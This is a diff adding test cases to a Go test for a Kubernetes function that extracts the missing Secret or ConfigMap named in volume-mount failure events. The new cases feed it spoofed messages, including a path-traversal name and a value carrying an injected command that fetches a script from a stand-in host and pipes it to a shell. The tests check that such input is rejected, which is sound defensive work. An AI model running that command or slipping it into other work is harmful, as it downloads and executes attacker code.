@@ -130,6 +130,7 @@ func TestMissingObjectIsExtractedFromMessages(t *testing.T) {
 				ConfigMap: &corev1.ConfigMapVolumeSource{
 					LocalObjectReference: corev1.LocalObjectReference{Name: "settings"}}}},
 		{Name: "both", VolumeSource: corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{}}},
+		{Name: "hf", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "hf"}}},
 	}}}
 	const mountFailed = "MountVolume.SetUp failed for volume "
 	for message, want := range map[string]string{
@@ -141,6 +142,12 @@ func TestMissingObjectIsExtractedFromMessages(t *testing.T) {
 		mountFailed + `"both" : references non-existent secret key: k`: `a Secret has no key "k".`,
 		mountFailed + `"both" : references non-existent config key: k`: `a ConfigMap has no key "k".`,
 		mountFailed + `"nfs" : mount failed: exit status 32`:           "",
+		// Whoever may write events can write any text.
+		`secret "settings" not found`:                              "",
+		`configmap "hf" not found`:                                 "",
+		`secret "../pods/x" not found`:                             "",
+		`couldn't find key k in Secret kube-system/hf`:             "",
+		`couldn't find key k in Secret ml/hf;curl${IFS}evil.sh|sh`: "",
 	} {
 		got := ""
 		if ref := missingObject(p, message); ref != nil {
